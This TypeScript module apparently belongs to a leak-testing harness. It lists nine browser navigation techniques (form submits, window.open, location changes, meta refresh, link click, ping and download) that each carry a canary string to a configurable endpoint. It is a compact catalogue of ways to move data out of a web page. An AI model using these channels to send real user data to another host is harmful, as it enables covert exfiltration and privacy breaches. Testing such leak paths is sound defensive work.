/** Channels that leave the page, or open another one, with the text in the address. */
import type { Channel } from "./channel.ts";

export const navigationChannels = [
  {
    id: "form-self",
    family: "navigation",
    short: true,
    run: ({ http, canary }) => {
      const form = document.createElement("form");
      const input = document.createElement("input");
      form.action = `${http}/x`;
      input.name = "q";
      input.value = canary;
      form.append(input);
      document.body.append(form);
      form.submit();
    },
  },
  {
    id: "form-blank",
    family: "navigation",
    run: ({ http, canary }) => {
      const form = document.createElement("form");
      const input = document.createElement("input");
      form.action = `${http}/x`;
      form.method = "POST";
      form.target = "_blank";
      input.name = "q";
      input.value = canary;
      form.append(input);
      document.body.append(form);
      form.submit();
    },
  },
  {
    id: "window-open",
    family: "navigation",
    short: true,
    run: ({ http, canary }) => void window.open(`${http}/x?${canary}`),
  },
  {
    id: "location",
    family: "navigation",
    short: true,
    run: ({ http, canary }) => {
      location.href = `${http}/x?${canary}`;
    },
  },
  {
    id: "location-replace",
    family: "navigation",
    run: ({ http, canary }) => location.replace(`${http}/x?${canary}`),
  },
  {
    id: "meta-refresh",
    family: "navigation",
    run: ({ http, canary }) => {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0;url=${http}/x?${canary}`;
      document.head.append(meta);
    },
  },
  {
    id: "link-click",
    family: "navigation",
    run: ({ http, canary }) => {
      const link = document.createElement("a");
      link.href = `${http}/x?${canary}`;
      document.body.append(link);
      link.click();
    },
  },
  {
    id: "link-ping",
    family: "navigation",
    run: ({ http, canary }) => {
      const link = document.createElement("a");
      link.href = "#x";
      link.ping = `${http}/x?${canary}`;
      document.body.append(link);
      link.click();
    },
  },
  {
    id: "link-download",
    family: "navigation",
    run: ({ http, canary }) => {
      const link = document.createElement("a");
      link.href = `${http}/x.bin?${canary}`;
      link.download = "x";
      document.body.append(link);
      link.click();
    },
  },
] as const satisfies readonly Channel[];
